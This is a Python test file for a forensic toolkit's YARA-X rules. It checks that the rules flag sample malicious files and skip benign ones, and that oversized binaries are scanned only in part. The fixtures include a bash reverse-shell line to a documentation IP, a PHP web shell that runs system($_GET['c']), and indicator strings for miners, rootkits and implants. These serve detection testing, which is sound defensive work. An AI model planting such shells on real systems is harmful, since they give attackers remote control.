"""The shipped YARA-X rules: each one matches its example, and none matches ordinary files."""

from __future__ import annotations

import json

import pytest

from tests.toolkit.examined import NO_TOOLS, ROOT, TOOLS, run

pytestmark = pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
_YARA = """
import json, sys
sys.path.insert(0, sys.argv[1])
from tests.toolkit.fake_tree import Builder
from forensic_toolkit.rules import yara_rules
from forensic_toolkit.results import Results
from forensic_toolkit.times import now
builder = Builder()
for path, text, mode in json.loads(sys.argv[2]):
    builder.add(path, text.encode("latin-1"), mode=mode)
results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
found = [(item.source, item.data["rule"], item.severity) for item in yara_rules.findings(builder.tree(), results=results)]
print(json.dumps({"found": found, "gaps": results.gaps}))
"""


ELF = "\x7fELF" + "\0" * 60


def test_yara_rules_find_what_they_are_for() -> None:
    files = [
        ("/tmp/a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n", 0o755),
        ("/var/tmp/x", f"{ELF}xmrig donate-level randomx", 0o755),
        ("/opt/.m/run", f"{ELF}UPX!....UPX!", 0o755),
        ("/var/www/a.php", "<?php system($_GET['c']); ?>", 0o644),
        ("/usr/lib/modules/6.1/extra/h.ko", f"{ELF}vermagic=6.1 kallsyms_lookup_name getdents64", 0o644),
        ("/dev/shm/i", f"{ELF}/bin/sh -i HISTFILE=/dev/null authorized_keys LD_PRELOAD", 0o755),
        ("/opt/app/run.sh", "#!/bin/sh\nexec /usr/bin/java -jar app.jar\n", 0o755),
        ("/home/a/notes.py", "print('hello')\n", 0o644),
        ("/usr/local/bin/tool", f"{ELF}LD_PRELOAD", 0o755),
    ]
    answer = json.loads(run(_YARA, str(ROOT), json.dumps(files)))
    assert answer["gaps"] == []
    assert {source for source, _, _ in answer["found"]} == {path for path, _, _ in files[:6]}
    assert len({rule for _, rule, _ in answer["found"]}) == 6


def test_a_large_program_is_scanned_in_part_and_named() -> None:
    """Programs in Go or packed with an interpreter have 30 to 100 MB."""
    builder = f"{_YARA.replace('json.loads(sys.argv[2])', 'LARGE')}"
    large = "LARGE = [('/tmp/x', '\\x7fELF' + '\\0' * 60 + 'xmrig donate-level randomx' + '\\0' * (33 << 20), 0o755)]\n"
    answer = json.loads(run(large + builder, str(ROOT), "[]"))
    assert [source for source, _, _ in answer["found"]] == ["/tmp/x"]
    assert answer["gaps"] == [["YARA", "of 1 files the first 32 MiB were scanned, they are larger: /tmp/x"]]
